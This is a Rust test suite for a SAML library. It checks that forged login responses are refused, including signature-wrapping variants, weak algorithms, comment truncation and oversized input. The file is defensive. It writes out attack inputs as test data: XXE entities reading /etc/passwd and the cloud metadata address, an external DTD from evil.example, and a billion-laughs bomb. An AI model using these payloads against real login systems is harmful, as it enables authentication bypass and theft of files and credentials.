//! Known attacks on service providers, each with a provider that signs honestly and an attacker who has one honest
//! response in hand.
#![allow(clippy::unwrap_used)]

#[allow(dead_code)]
mod forger;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use custos_saml::{Accepted, Expected, IdentityProvider, Refusal, accept};
use forger::*;

fn refused(provider: &IdentityProvider, response: &str) -> Refusal {
    match judge(provider, response) {
        Ok(Accepted { name_id, .. }) => panic!("accepted as {}", name_id.value),
        Err(refusal) => refusal,
    }
}

/// The honest response, and its parts.
struct Honest {
    forger: Forger,
    provider: IdentityProvider,
}

impl Honest {
    fn new() -> Self {
        let forger = Forger::elliptic();
        let provider = forger.provider();
        Self { forger, provider }
    }

    fn signature(&self) -> String {
        self.forger
            .signature_over(&Assertion::default().text(), "_assertion")
    }
}

#[test]
fn honest_responses_are_accepted_with_either_key_and_either_signature() {
    for forger in [Forger::elliptic(), Forger::rsa()] {
        let provider = forger.provider();
        let assertion = Assertion::default();
        let accepted = judge(&provider, &forger.response(&assertion)).unwrap();
        assert_eq!(accepted.assertion_id, "_assertion");
        assert_eq!(accepted.name_id.value, "li.na@example.com");
        assert_eq!(accepted.values("groups"), ["Sales", "R&D"]);
        assert_eq!(accepted.session_index.as_deref(), Some("_session"));
        assert_eq!(accepted.replayable_until, moment("2026-11-22T10:06:00Z"));
        assert_eq!(
            judge(&provider, &forger.signed_response(&assertion)).unwrap(),
            accepted
        );

        let inner = response("_response", &forger.signed_assertion(&assertion));
        let both = after_issuer(&inner, &forger.signature_over(&inner, "_response"));
        assert_eq!(judge(&provider, &both).unwrap(), accepted);
    }
}

/// Somorovsky et al., On Breaking SAML (USENIX Security 2012), XSW 1 to 8.
#[test]
fn wrapped_signatures_are_refused() {
    let honest = Honest::new();
    let original = Assertion::default();
    let signed = honest.forger.signed_assertion(&original);
    let signature = honest.signature();
    let unsigned_response = response("_response", &original.text());
    let response_signature = honest
        .forger
        .signature_over(&unsigned_response, "_response");

    for evil_id in ["_evil", "_assertion"] {
        let evil = Assertion::evil(evil_id).text();
        let inside = |wrapper: &str, content: &str| {
            wrapper.replacen(
                "</saml:Assertion>",
                &format!("{content}</saml:Assertion>"),
                1,
            )
        };
        let within_signature = signature.replacen(
            "</ds:Signature>",
            &format!("<ds:Object>{}</ds:Object></ds:Signature>", original.text()),
            1,
        );
        let evil_response = response("_evil_response", &evil);
        let wrapped = [
            // 1, 2: the response as a whole, kept in the signature or beside it.
            after_issuer(
                &evil_response,
                &response_signature.replacen(
                    "</ds:Signature>",
                    &format!("{unsigned_response}</ds:Signature>"),
                    1,
                ),
            ),
            after_issuer(
                &evil_response,
                &format!("{unsigned_response}{response_signature}"),
            ),
            // 3: the evil one before or after the signed one.
            response("_response", &format!("{evil}{signed}")),
            response("_response", &format!("{signed}{evil}")),
            // 4: the signed one within the evil one.
            response("_response", &inside(&evil, &signed)),
            // 5: the evil one with the signature, the original elsewhere.
            response(
                "_response",
                &format!("{}{}", after_issuer(&evil, &signature), original.text()),
            ),
            // 6: the evil one with the signature, the original in the signature.
            response(
                "_response",
                &after_issuer(
                    &evil,
                    &signature.replacen(
                        "</ds:Signature>",
                        &format!("{}</ds:Signature>", original.text()),
                        1,
                    ),
                ),
            ),
            // 7: the evil one in an extension.
            response(
                "_response",
                &format!("<samlp:Extensions>{evil}</samlp:Extensions>{signed}"),
            ),
            // 8: the original in an object of the signature.
            response("_response", &after_issuer(&evil, &within_signature)),
            // The original hidden where anything may stand.
            response(
                "_response",
                &after_issuer(&evil, &signature).replacen(
                    "<saml:AttributeValue>Sales</saml:AttributeValue>",
                    &format!(
                        "<saml:AttributeValue>{}</saml:AttributeValue>",
                        original.text()
                    ),
                    1,
                ),
            ),
            // The root is not a response but holds one.
            format!(
                "<x>{}{}</x>",
                response("_r", &signed),
                response("_e", &evil)
            ),
        ];
        for (number, response) in wrapped.iter().enumerate() {
            let refusal = refused(&honest.provider, response);
            let expected = [
                Refusal::SeveralAssertions,
                Refusal::Structure,
                Refusal::DuplicateId,
            ];
            assert!(expected.contains(&refusal), "{number}: {refusal:?}");
        }
    }
}

#[test]
fn a_signature_of_another_element_is_refused() {
    let honest = Honest::new();
    let evil = Assertion::evil("_evil").text();
    // Moved onto another assertion, with and without its id.
    let moved = response("_response", &after_issuer(&evil, &honest.signature()));
    assert_eq!(refused(&honest.provider, &moved), Refusal::Reference);
    let renamed = evil.replacen("_evil", "_assertion", 1);
    let moved = response("_response", &after_issuer(&renamed, &honest.signature()));
    assert_eq!(refused(&honest.provider, &moved), Refusal::Digest);
    // A sound signature of the subject alone, of the whole document, and of nothing.
    for uri in ["_subject", "", "xpointer(/)"] {
        let text = Assertion::default().text();
        let signature = honest.forger.signature_over(&text, uri);
        let response = response("_response", &after_issuer(&text, &signature));
        assert_eq!(refused(&honest.provider, &response), Refusal::Reference);
    }
    let text = Assertion::default().text();
    let empty = honest.forger.signature_over(&text, "_assertion").replacen(
        "URI=\"#_assertion\"",
        "URI=\"\"",
        1,
    );
    let response = response("_response", &after_issuer(&text, &empty));
    assert_eq!(refused(&honest.provider, &response), Refusal::Signature);
}

#[test]
fn what_is_not_signed_is_refused() {
    let honest = Honest::new();
    let unsigned = response("_response", &Assertion::default().text());
    assert_eq!(refused(&honest.provider, &unsigned), Refusal::NotSigned);
    assert_eq!(
        refused(&honest.provider, &response("_response", "")),
        Refusal::NoAssertion
    );
    // A signature stripped of its parts.
    for (part, nothing) in [
        (
            "<ds:SignatureValue>",
            "<ds:SignatureValue></ds:SignatureValue><ds:KeyInfo>",
        ),
        ("<ds:SignedInfo", "<ds:Other"),
    ] {
        let response = honest.forger.response(&Assertion::default());
        let broken = response.replacen(part, nothing, 1).replacen(
            &part.replace('<', "</"),
            &nothing.replace('<', "</"),
            1,
        );
        assert!(judge(&honest.provider, &broken).is_err());
    }
    let none = response(
        "_response",
        &after_issuer(
            &Assertion::default().text(),
            "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"></ds:Signature>",
        ),
    );
    assert_eq!(refused(&honest.provider, &none), Refusal::SignatureForm);
}

#[test]
fn both_signatures_must_hold_if_there_are_two() {
    let honest = Honest::new();
    let stranger = Forger::elliptic();
    let assertion = Assertion::default();
    let inner = response("_response", &stranger.signed_assertion(&assertion));
    let both = after_issuer(&inner, &honest.forger.signature_over(&inner, "_response"));
    assert_eq!(refused(&honest.provider, &both), Refusal::Signature);
    let inner = response("_response", &honest.forger.signed_assertion(&assertion));
    let both = after_issuer(&inner, &stranger.signature_over(&inner, "_response"));
    assert_eq!(refused(&honest.provider, &both), Refusal::Signature);
}

#[test]
fn another_key_is_refused_also_when_it_is_shown() {
    let honest = Honest::new();
    let stranger = Forger::elliptic();
    let response = stranger.response(&Assertion::default());
    assert_eq!(refused(&honest.provider, &response), Refusal::Signature);
    let shown = response.replacen(
        "</ds:SignatureValue>",
        &format!(
            "</ds:SignatureValue><ds:KeyInfo><ds:X509Data><ds:X509Certificate>{}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>",
            stranger.certificate()
        ),
        1,
    );
    assert_eq!(refused(&honest.provider, &shown), Refusal::Signature);
    // While the provider changes its key both are listed.
    let both =
        IdentityProvider::from_metadata(&metadata(&[&honest.forger, &stranger]), moment(NOW));
    let both = both.unwrap();
    assert_eq!(both.certificates().len(), 2);
    assert!(judge(&both, &response).is_ok());
    assert!(judge(&both, &honest.forger.response(&Assertion::default())).is_ok());
}

#[test]
fn weak_symmetric_and_confused_algorithms_are_refused() {
    for method in [
        "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
        "http://www.w3.org/2000/09/xmldsig#dsa-sha1",
        "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
        "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
        "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1",
        "",
    ] {
        let mut forger = Forger::rsa();
        forger.signature_method = method.to_owned();
        let response = forger.response(&Assertion::default());
        assert_eq!(
            refused(&forger.provider(), &response),
            Refusal::Algorithm,
            "{method}"
        );
    }
    for method in [
        "http://www.w3.org/2000/09/xmldsig#sha1",
        "http://www.w3.org/2001/04/xmldsig-more#md5",
    ] {
        let mut forger = Forger::elliptic();
        forger.digest_method = method.to_owned();
        let response = forger.response(&Assertion::default());
        assert_eq!(refused(&forger.provider(), &response), Refusal::Algorithm);
    }
    // The key of one kind, the name of the other.
    let mut forger = Forger::elliptic();
    forger.signature_method = RSA_SHA256.to_owned();
    let response = forger.response(&Assertion::default());
    assert_eq!(refused(&forger.provider(), &response), Refusal::Signature);
}

#[test]
fn other_transforms_and_canonical_forms_are_refused() {
    for algorithm in [
        "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
        "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
        "http://www.w3.org/TR/1999/REC-xslt-19991116",
        "http://www.w3.org/TR/1999/REC-xpath-19991116",
        "http://www.w3.org/2002/06/xmldsig-filter2",
        "http://www.w3.org/2000/09/xmldsig#base64",
    ] {
        let mut forger = Forger::elliptic();
        forger.second_transform = algorithm.to_owned();
        let response = forger.response(&Assertion::default());
        assert_eq!(refused(&forger.provider(), &response), Refusal::Algorithm);
        let mut forger = Forger::elliptic();
        forger.canonicalization = algorithm.to_owned();
        let response = forger.response(&Assertion::default());
        assert_eq!(refused(&forger.provider(), &response), Refusal::Algorithm);
    }
    let mut forger = Forger::elliptic();
    forger.more_in_signed_info = "<ds:Reference URI=\"#_evil\"></ds:Reference>".into();
    let response = forger.response(&Assertion::default());
    assert_eq!(
        refused(&forger.provider(), &response),
        Refusal::SignatureForm
    );
}

#[test]
fn document_types_entities_comments_and_instructions_are_refused_unparsed() {
    let honest = Honest::new();
    let response = honest.forger.response(&Assertion::default());
    let laughs: String = (1..10)
        .map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10)))
        .collect();
    let prologues = [
        "<!DOCTYPE x []>".to_owned(),
        "<!DOCTYPE x SYSTEM \"file:///etc/passwd\">".to_owned(),
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"http://169.254.169.254/\">]>".to_owned(),
        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"https://evil.example/x.dtd\"> %p;]>".to_owned(),
        format!("<!DOCTYPE x [<!ENTITY l0 \"lol\">{laughs}]>"),
        "<?xml-stylesheet href=\"https://evil.example/\"?>".to_owned(),
        "<!-- -->".to_owned(),
    ];
    for prologue in &prologues {
        assert_eq!(
            refused(&honest.provider, &format!("{prologue}{response}")),
            Refusal::Markup
        );
        let declared = format!("<?xml version=\"1.0\"?>{prologue}{response}");
        assert_eq!(refused(&honest.provider, &declared), Refusal::Markup);
    }
    let entity = response.replacen("li.na@", "&e;", 1);
    assert_eq!(refused(&honest.provider, &entity), Refusal::Malformed);
    let declared = format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{response}");
    assert!(judge(&honest.provider, &declared).is_ok());
}

/// CVE-2017-11427 and its kin: a comment splits the text, and only its first part is read.
#[test]
fn comments_cannot_cut_a_name_short() {
    let forger = Forger::elliptic();
    // The provider signs the whole name; comments are no part of the canonical form, so the signature holds.
    let assertion = Assertion {
        name_id: "<saml:NameID>admin@example.com.evil.example</saml:NameID>".into(),
        ..Assertion::default()
    };
    let response = forger.response(&assertion);
    let provider = forger.provider();
    let whole = judge(&provider, &response).unwrap();
    assert_eq!(whole.name_id.value, "admin@example.com.evil.example");
    for splitter in ["<!---->", "<!-- x -->", "<?x?>", "<![CDATA[]]>"] {
        let cut = response.replacen(".com.evil", &format!(".com{splitter}.evil"), 1);
        assert_eq!(refused(&provider, &cut), Refusal::Markup);
    }
    let element = response.replacen(".com.evil", ".com<x/>.evil", 1);
    assert!(judge(&provider, &element).is_err());
    // Signed with an element inside: no part of it is a name.
    let assertion = Assertion {
        name_id: "<saml:NameID>admin@example.com<saml:x></saml:x>.evil.example</saml:NameID>"
            .into(),
        ..Assertion::default()
    };
    assert_eq!(
        refused(&provider, &forger.response(&assertion)),
        Refusal::Structure
    );
}

#[test]
fn duplicate_ids_assertions_and_signatures_are_refused() {
    let honest = Honest::new();
    let signed = honest.forger.signed_assertion(&Assertion::default());
    let twice = response("_response", &format!("{signed}{signed}"));
    assert_eq!(refused(&honest.provider, &twice), Refusal::DuplicateId);
    let same_id = response("_assertion", &signed);
    assert_eq!(refused(&honest.provider, &same_id), Refusal::DuplicateId);
    for attribute in ["Id", "id", "xml:id"] {
        let hidden = response("_response", &signed).replacen(
            "<samlp:Status>",
            &format!("<samlp:Status {attribute}=\"_assertion\">"),
            1,
        );
        assert_eq!(refused(&honest.provider, &hidden), Refusal::DuplicateId);
    }
    let text = Assertion::default().text();
    let signature = honest.signature();
    let two = response(
        "_response",
        &after_issuer(&text, &format!("{signature}{signature}")),
    );
    assert_eq!(refused(&honest.provider, &two), Refusal::Structure);
}

#[test]
fn encrypted_parts_are_refused() {
    let honest = Honest::new();
    let encrypted =
        "<saml:EncryptedAssertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"/>";
    assert_eq!(
        refused(&honest.provider, &response("_response", encrypted)),
        Refusal::Encrypted
    );
    let assertion = Assertion {
        name_id: "<saml:EncryptedID></saml:EncryptedID>".into(),
        ..Assertion::default()
    };
    assert_eq!(
        refused(&honest.provider, &honest.forger.response(&assertion)),
        Refusal::Encrypted
    );
}

#[test]
fn white_space_and_namespaces_change_nothing_that_is_read() {
    let honest = Honest::new();
    let response = honest.forger.response(&Assertion::default());
    let accepted = judge(&honest.provider, &response).unwrap();
    // Same canonical form: other quotes, spaces in tags, empty-element tags, a superfluous declaration.
    for same in [
        response.replacen("ID=\"_assertion\"", "ID = '_assertion' ", 1),
        response.replacen("></saml:SubjectConfirmationData>", "/>", 1),
        response.replacen(
            "<samlp:Response ",
            "<samlp:Response xmlns:evil=\"urn:evil\" ",
            1,
        ),
        response.replacen("<saml:Subject>", "<saml:Subject\n\t>", 1),
        response.replacen("li.na@", "&#108;i.na@", 1),
    ] {
        assert_ne!(same, response);
        assert_eq!(judge(&honest.provider, &same).unwrap(), accepted);
    }
    // Another canonical form.
    for other in [
        response.replacen("li.na@", " li.na@", 1),
        response.replacen("<saml:Subject>", "<saml:Subject> ", 1),
        response.replacen(
            "<saml:Assertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"",
            "<saml:Assertion xmlns:saml=\"urn:evil\"",
            1,
        ),
        response.replacen("<saml:NameID>", "<saml:NameID xmlns:saml=\"urn:evil\">", 1),
        response
            .replacen(
                "<saml:NameID>",
                "<NameID xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\">",
                1,
            )
            .replacen("</saml:NameID>", "</NameID>", 1),
    ] {
        assert_ne!(other, response);
        assert!(judge(&honest.provider, &other).is_err());
    }
}

#[test]
fn truncated_huge_and_deep_input_is_refused() {
    let honest = Honest::new();
    let response = honest.forger.response(&Assertion::default());
    for end in (0..response.len()).step_by(7) {
        assert!(judge(&honest.provider, &response[..end]).is_err());
    }
    let filler = " ".repeat(custos_saml::MAX_RESPONSE_LENGTH);
    assert_eq!(
        refused(&honest.provider, &format!("{response}{filler}")),
        Refusal::TooLarge
    );
    let deep = format!("{}{}", "<a>".repeat(10_000), "</a>".repeat(10_000));
    assert_eq!(refused(&honest.provider, &deep), Refusal::TooDeep);
    let wide = format!("<a>{}</a>", "<b/>".repeat(25_000));
    assert_eq!(refused(&honest.provider, &wide), Refusal::TooLarge);
    let attributes: String = (0..9_000).map(|n| format!(" a{n}=''")).collect();
    assert_eq!(
        refused(&honest.provider, &format!("<a{attributes}/>")),
        Refusal::TooLarge
    );
    let declarations: String = (0..2_000).map(|n| format!(" xmlns:a{n}='u'")).collect();
    assert_eq!(
        refused(&honest.provider, &format!("<a{declarations}/>")),
        Refusal::TooLarge
    );

    let service = service();
    let expected = Expected {
        service: &service,
        provider: &honest.provider,
        request_id: REQUEST,
        now: moment(NOW),
    };
    for (text, refusal) in [
        ("", Refusal::Malformed),
        ("====", Refusal::Encoding),
        ("PGE+\u{4e2d}", Refusal::Encoding),
        ("/////w==", Refusal::Encoding),
    ] {
        assert_eq!(accept(text, &expected), Err(refusal), "{text}");
    }
    let lines: Vec<String> = STANDARD
        .encode(&response)
        .as_bytes()
        .chunks(76)
        .map(|line| String::from_utf8_lossy(line).into_owned())
        .collect();
    assert!(accept(&lines.join("\r\n"), &expected).is_ok());
}
